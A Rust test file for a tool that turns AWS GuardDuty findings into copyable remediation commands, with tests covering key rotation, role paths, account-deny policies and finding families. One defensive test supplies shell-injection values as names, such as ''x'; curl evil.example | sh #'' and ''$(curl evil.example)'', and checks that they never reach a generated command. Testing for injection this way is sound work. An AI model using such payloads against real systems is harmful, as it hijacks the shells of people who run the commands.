//! What people are told to do by hand, for each kind of principal: the steps and the commands they would copy.
//! Never here: the sentences; the snapshots of messages have those.

use vouch::case::CaseId;
use vouch::case::finding::{Activity, Finding, Form, Resource};
use vouch::case::guidance::{Advised, steps};
use vouch::case::principal::{AccessKeyId, AccountId, Partition, Principal, PrincipalKind, Region};

fn finding(kind: PrincipalKind, name: &str, session: Option<&str>) -> Finding {
    let at = "2026-01-01T00:00:00Z".parse().unwrap();
    let account = AccountId::parse("111122223333").unwrap();
    Finding {
        id: "f".to_owned(),
        kind: "UnauthorizedAccess:IAMUser/MaliciousIPCaller".to_owned(),
        account: account.clone(),
        region: Region::parse("eu-central-1").unwrap(),
        partition: Partition::Commercial,
        severity: 5.0,
        title: String::new(),
        description: String::new(),
        updated_at: at,
        first_seen: None,
        last_seen: None,
        count: 1,
        sample: false,
        archived: false,
        form: Form::Eventbridge,
        principal: Principal {
            kind,
            partition: Partition::Commercial,
            account: Some(account),
            name: name.to_owned(),
            session: session.map(str::to_owned),
            unique_id: None,
            access_key: AccessKeyId::parse("ASIAIOSFODNN7EXAMPLE"),
        },
        resource: None,
        activity: Activity::default(),
    }
}

fn bucket(name: &str) -> Resource {
    let arn = format!("arn:aws:s3:::{name}");
    serde_json::from_value(serde_json::json!({ "type": "bucket", "name": name, "arn": arn })).unwrap()
}

fn told(finding: &Finding, arn: Option<&str>) -> Vec<(Advised, Option<String>)> {
    let case = CaseId::parse("c0ffee0000000001").unwrap();
    steps(&case, finding, arn).into_iter().map(|step| (step.what, step.command)).collect()
}

fn whats(finding: &Finding, arn: Option<&str>) -> Vec<Advised> {
    told(finding, arn).into_iter().map(|(what, _)| what).collect()
}

/// One of each kind of principal, with what it was done to where that is told apart.
fn principals() -> Vec<Finding> {
    let sso = "AWSReservedSSO_PowerUser_0123456789abcdef";
    let mut foreign = finding(PrincipalKind::Account, "", None);
    foreign.principal.account = AccountId::parse("999988887777");
    let mut anonymous = finding(PrincipalKind::Anonymous, "ANONYMOUS_PRINCIPAL", None);
    anonymous.principal.account = None;
    for finding in [&mut foreign, &mut anonymous] {
        finding.resource = Some(bucket("photos.example"));
    }
    let mut instance = finding(PrincipalKind::None, "", None);
    let (id, arn) = ("i-0123456789abcdef0".to_owned(), "arn:aws:ec2:x".to_owned());
    instance.resource = Some(Resource::Instance { id, arn });
    vec![
        finding(PrincipalKind::IamUser, "alice", None),
        finding(PrincipalKind::RoleSession, "deploy", Some("build-7")),
        finding(PrincipalKind::InstanceRole, "web", Some("i-0123456789abcdef0")),
        finding(PrincipalKind::SsoUser, sso, Some("ana@example.com")),
        finding(PrincipalKind::ServiceLinkedRole, "AWSServiceRoleForSupport", Some("x")),
        finding(PrincipalKind::FederatedUser, "partner", None),
        finding(PrincipalKind::Root, "Root", None),
        foreign,
        anonymous,
        finding(PrincipalKind::Actors, "a, b", None),
        instance,
    ]
}

/// Of types that nothing is written for, and what is said of each.
const FAMILIES: [(&str, Advised); 9] = [
    ("Execution:Runtime/NewBinaryExecuted", Advised::Runtime),
    ("Policy:Kubernetes/AnonymousAccessGranted", Advised::Kubernetes),
    ("CredentialAccess:RDS/AnomalousBehavior.FailedLogin", Advised::Database),
    ("Backdoor:Lambda/C&CActivity.B", Advised::Function),
    ("Execution:ECS/MaliciousFile", Advised::Container),
    ("Execution:Container/SuspiciousFile", Advised::Container),
    ("Object:S3/MaliciousFile", Advised::Malware),
    ("Execution:EC2/MaliciousFile", Advised::Malware),
    ("Newly:Invented/Type", Advised::UnknownType),
];

fn of_family(kind: &str) -> Finding {
    Finding { kind: kind.to_owned(), ..finding(PrincipalKind::None, "", None) }
}

/// By a user's own key, which does not end by itself.
fn long_term() -> Finding {
    let mut finding = finding(PrincipalKind::IamUser, "alice", None);
    finding.principal.access_key = AccessKeyId::parse("AKIAIOSFODNN7EXAMPLE");
    finding
}

/// Every finding of the tests here, for whoever asks what is ever told.
pub(crate) fn findings() -> Vec<Finding> {
    let families = FAMILIES.iter().map(|(kind, _)| of_family(kind));
    principals().into_iter().chain([long_term()]).chain(families).collect()
}

pub(crate) fn whats_of(finding: &Finding) -> Vec<Advised> {
    whats(finding, None)
}

#[test]
fn each_kind_of_principal_gets_its_steps_with_this_cases_values() {
    let mut text = String::new();
    for finding in principals() {
        text.push_str(&format!("{}\n", finding.principal.kind.as_str()));
        for (what, command) in told(&finding, None) {
            text.push_str(&format!("  {what:?}\n"));
            text.extend(command.map(|command| format!("    {command}\n")));
        }
    }
    insta::assert_snapshot!(text);
}

#[test]
fn a_long_term_key_is_replaced_by_a_new_one() {
    let all = told(&long_term(), None);
    let whats: Vec<Advised> = all.iter().map(|(what, _)| *what).collect();
    assert_eq!(
        whats,
        [
            Advised::AskUser,
            Advised::LookUpCalls,
            Advised::CheckPermissions,
            Advised::RotateKey,
            Advised::AccountArticle
        ]
    );
    assert_eq!(all[3].1.as_deref(), Some("aws iam create-access-key --user-name alice"));
    let looked_up = all[1].1.as_deref().unwrap();
    assert!(
        looked_up.ends_with("AttributeKey=AccessKeyId,AttributeValue=AKIAIOSFODNN7EXAMPLE"),
        "{looked_up}"
    );
}

#[test]
fn a_roles_path_decides_and_not_its_name() {
    let plain = finding(PrincipalKind::RoleSession, "ops", Some("ana"));
    let reserved = "arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/ops";
    assert_eq!(whats(&plain, Some(reserved))[0], Advised::SsoUserId);
    let linked = "arn:aws:iam::111122223333:role/aws-service-role/x.amazonaws.com/ops";
    assert_eq!(whats(&plain, Some(linked))[0], Advised::ServiceNoRevoke);
    let imitated = finding(PrincipalKind::SsoUser, "AWSReservedSSO_Admin_0123", Some("ana"));
    let own = "arn:aws:iam::111122223333:role/AWSReservedSSO_Admin_0123";
    assert_eq!(whats(&imitated, Some(own))[0], Advised::TraceKey);
}

/// Whoever copies a command runs it: what an attacker could choose is never in it unless it is only a name.
#[test]
fn a_name_that_a_shell_would_read_is_left_out() {
    let name = "x'; curl evil.example | sh #";
    for kind in
        [PrincipalKind::IamUser, PrincipalKind::SsoUser, PrincipalKind::FederatedUser, PrincipalKind::Root]
    {
        let mut evil = finding(kind, name, Some("$(curl evil.example)"));
        evil.resource = Some(bucket("`id`"));
        for (what, command) in told(&evil, Some("arn:aws:iam::1:role/$(id)")) {
            let command = command.unwrap_or_default();
            assert!(!command.contains("evil") && !command.contains("$("), "{what:?}: {command}");
        }
    }
}

/// A policy that would lock our own account out is never proposed, whatever a finding lacks.
#[test]
fn a_foreign_account_is_never_our_own() {
    let mut unknown = finding(PrincipalKind::Account, "", None);
    for account in [None, AccountId::parse("111122223333")] {
        unknown.principal.account = account;
        let all = told(&unknown, None);
        let (_, policy) = all.iter().find(|(what, _)| *what == Advised::AccountDeny).unwrap();
        assert!(policy.as_ref().unwrap().contains("arn:aws:iam::THEIR_ACCOUNT:root"), "{policy:?}");
    }
}

#[test]
fn families_that_nothing_is_written_for_are_explained() {
    for (kind, advised) in FAMILIES {
        let mut about = of_family(kind);
        assert_eq!(whats(&about, None), [advised], "{kind}");
        // Their part in IAM comes with it.
        about.principal = finding(PrincipalKind::RoleSession, "task", Some("s")).principal;
        if advised != Advised::UnknownType {
            assert!(whats(&about, None).contains(&Advised::RoleTrust), "{kind}");
        }
    }
}
